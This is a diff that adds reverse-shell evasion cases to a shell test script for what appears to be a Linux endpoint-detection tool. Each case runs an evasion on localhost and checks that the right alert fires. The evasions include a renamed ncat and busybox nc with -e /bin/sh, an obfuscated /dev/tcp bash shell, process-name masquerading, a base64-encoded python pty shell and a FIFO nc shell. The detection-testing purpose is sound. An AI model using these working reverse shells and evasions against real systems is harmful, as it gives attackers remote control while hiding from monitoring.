@@ -229,5 +229,137 @@ dt_expect miner-stratum-connection "its TCP connection to 127.0.0.1:$stratum" \
 	 and .Evidence[0].Fields.RemotePort == $port and .Evidence[0].Fields.Direction == "Out"'
 dt_stop_peer
 
+# ---- evasions that must still be caught ----
+# A copy of ncat under another name: no rule knows the name, its shell talks to it through
+# pipes; the connection followed by a shell is what gives it away.
+cp /usr/bin/ncat "$bin/updater"
+port=$(dt_free_port)
+dt_peer "$port" $'echo dt-ok-renamed\nexit\n'
+dt_mark
+timeout 10 "$bin/updater" 127.0.0.1 "$port" -e /bin/sh &
+pid=$!
+wait "$pid"
+DT_JQ_ARGS=(--argjson pid "$pid" --arg bin "$bin/updater" --arg port "$port")
+dt_expect reverse-shell-connect-shell "evasion: a copy of ncat named updater, -e /bin/sh" \
+	'.Evidence[0].Name == "ConnectionCreate" and .Evidence[0].Fields.Executable == $bin
+	 and .Evidence[0].Fields.RemotePort == $port and .Evidence[1].Name == "ProcessCreate"
+	 and .Evidence[1].Fields.ParentProcessId == .Evidence[0].Fields.ProcessId'
+dt_peer_got "$port" dt-ok-renamed "the renamed ncat"
+dt_stop_peer
+
+port=$(dt_free_port)
+dt_peer "$port" $'exit\n'
+dt_mark
+timeout 10 ncat --exe /bin/sh 127.0.0.1 "$port" &
+wait $!
+DT_JQ_ARGS=(--arg port "$port")
+dt_expect reverse-shell-netcat-exec "evasion: ncat --exe (an abbreviation of --exec)" \
+	'(.CommandLine | contains("--exe /bin/sh 127.0.0.1 " + $port))'
+dt_stop_peer
+
+port=$(dt_free_port)
+dt_peer "$port" $'exit\n'
+pad=$(printf -- '-v %.0s' $(seq 600))
+dt_mark
+# shellcheck disable=SC2086 # the padding is 600 words on purpose
+timeout 10 ncat $pad 127.0.0.1 "$port" -e /bin/sh 2>/dev/null &
+wait $!
+DT_JQ_ARGS=(--arg port "$port")
+dt_expect reverse-shell-netcat-exec "evasion: ncat with 600 padding arguments before -e" \
+	'(.CommandLine | endswith("127.0.0.1 " + $port + " -e /bin/sh"))'
+dt_stop_peer
+
+port=$(dt_free_port)
+dt_peer "$port" $'echo dt-ok-busybox\nexit\n'
+dt_mark
+timeout 10 "$busybox" nc 127.0.0.1 "$port" -e /bin/sh &
+pid=$!
+wait "$pid"
+DT_JQ_ARGS=(--arg port "$port")
+dt_expect reverse-shell-netcat-exec "evasion: busybox nc 127.0.0.1 PORT -e /bin/sh" \
+	'.Executable == "/usr/bin/busybox" and (.CommandLine | endswith("busybox nc 127.0.0.1 " + $port + " -e /bin/sh"))'
+dt_expect reverse-shell-socket-stdio "the /bin/sh busybox nc runs on its socket" \
+	'.Evidence[0].Fields["ExtraDetails.StdioRemote"] == "127.0.0.1:" + $port'
+dt_peer_got "$port" dt-ok-busybox "busybox nc -e"
+dt_stop_peer
+
+port=$(dt_free_port)
+dt_mark
+timeout 10 "$busybox" nc -lp "$port" </dev/null >/dev/null 2>&1 &
+pid=$!
+pids+=("$pid")
+DT_JQ_ARGS=(--arg port "$port")
+dt_expect netcat-listener "evasion: busybox nc -lp PORT" '(.CommandLine | endswith("busybox nc -lp " + $port))'
+kill "$pid" 2>/dev/null
+wait "$pid" 2>/dev/null
+
+# A copy of bash named kworker, and quotes in the /dev/tcp path of its -c string.
+cp "$(command -v bash)" "$bin/kworker"
+port=$(dt_free_port)
+dt_peer "$port" $'echo dt-ok-kworker\nexit\n'
+dt_mark
+timeout 10 "$bin/kworker" -c "$bin/kworker --norc -i >& /dev/tc\"p\"/127.0.0.1/$port 0>&1" 2>/dev/null &
+wait $!
+DT_JQ_ARGS=(--arg bin "$bin/kworker" --arg port "$port")
+dt_expect reverse-shell-dev-tcp "evasion: quotes in the path: kworker -c '... >& /dev/tc\"p\"/...'" \
+	'.Executable == $bin and (.CommandLine | contains("/dev/tc\"p\"/127.0.0.1/" + $port))'
+dt_expect reverse-shell-socket-stdio "evasion: a copy of bash named kworker, stdio on the socket" \
+	'.Executable == $bin and .Evidence[0].Fields["ExtraDetails.StdioRemote"] == "127.0.0.1:" + $port'
+dt_peer_got "$port" dt-ok-kworker "the renamed bash"
+dt_stop_peer
+
+# exec -a: argv[0] made to look like a kernel thread.
+port=$(dt_free_port)
+dt_peer "$port" $'exit\n'
+dt_mark
+timeout 10 bash -c "exec -a '[kworker/0:1]' bash --norc -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null &
+wait $!
+DT_JQ_ARGS=(--arg port "$port")
+dt_expect reverse-shell-socket-stdio "evasion: exec -a '[kworker/0:1]' bash -i on the socket" \
+	'.Evidence[0].Fields["ExtraDetails.Argv0"] == "[kworker/0:1]"
+	 and .Evidence[0].Fields["ExtraDetails.StdioRemote"] == "127.0.0.1:" + $port'
+dt_expect masquerade-kernel-thread "exec -a '[kworker/0:1]' bash" \
+	'.Evidence[0].Fields["ExtraDetails.Argv0"] == "[kworker/0:1]"'
+dt_stop_peer
+
+# A script whose name hides its interpreter, started on the socket (socat EXEC:,nofork).
+printf '#!/bin/sh\nwhile read -r l; do eval "$l"; done\n' >"$bin/sysupdate"
+chmod +x "$bin/sysupdate"
+port=$(dt_free_port)
+dt_peer "$port" $'echo dt-ok-script\nexit\n'
+dt_mark
+timeout 10 socat "TCP:127.0.0.1:$port" "EXEC:$bin/sysupdate,nofork" &
+wait $!
+DT_JQ_ARGS=(--arg bin "$bin/sysupdate" --arg port "$port")
+dt_expect reverse-shell-socket-stdio "evasion: a #!/bin/sh script named sysupdate on the socket" \
+	'.Executable == $bin and .Evidence[0].Fields["ExtraDetails.StdioRemote"] == "127.0.0.1:" + $port'
+dt_peer_got "$port" dt-ok-script "the sysupdate script"
+dt_stop_peer
+
+# python whose code is base64 (no keyword in the command line) and a shell on a pty.
+port=$(dt_free_port)
+dt_peer "$port" $'echo dt-ok-pty\nexit\n'
+code=$(printf '%s' "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',$port));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')" | base64 -w0)
+dt_mark
+timeout 10 /usr/bin/python3 -c "import base64;exec(base64.b64decode('$code'))" &
+wait $!
+DT_JQ_ARGS=(--arg port "$port")
+dt_expect reverse-shell-connect-shell "evasion: python3 -c base64 code, pty.spawn(/bin/sh)" \
+	'.Evidence[0].Fields.Executable == "/usr/bin/python3" and .Evidence[0].Fields.RemotePort == $port
+	 and .Evidence[1].Fields["ExtraDetails.Stdin"] == "tty"'
+dt_peer_got "$port" dt-ok-pty "the pty shell"
+dt_stop_peer
+
+# The FIFO shell with a full path and ${IFS} instead of a space after nc.
+port=$(dt_free_port)
+dt_peer "$port" $'exit\n'
+dt_mark
+timeout 10 sh -c "rm -f $fifo;mkfifo $fifo;cat $fifo|/bin/sh -i 2>&1|/usr/bin/nc\${IFS}127.0.0.1 $port >$fifo" 2>/dev/null &
+wait $!
+DT_JQ_ARGS=(--arg port "$port")
+dt_expect reverse-shell-fifo "evasion: ...|/usr/bin/nc\${IFS}127.0.0.1 PORT >F" \
+	'.Executable == "/usr/bin/sh" and (.CommandLine | contains("nc${IFS}127.0.0.1 " + $port))'
+dt_stop_peer
+
 dt_table
 echo "PASS: reverse shells, network tools, tunnels, nmap and a miner raise their alerts with the right evidence"
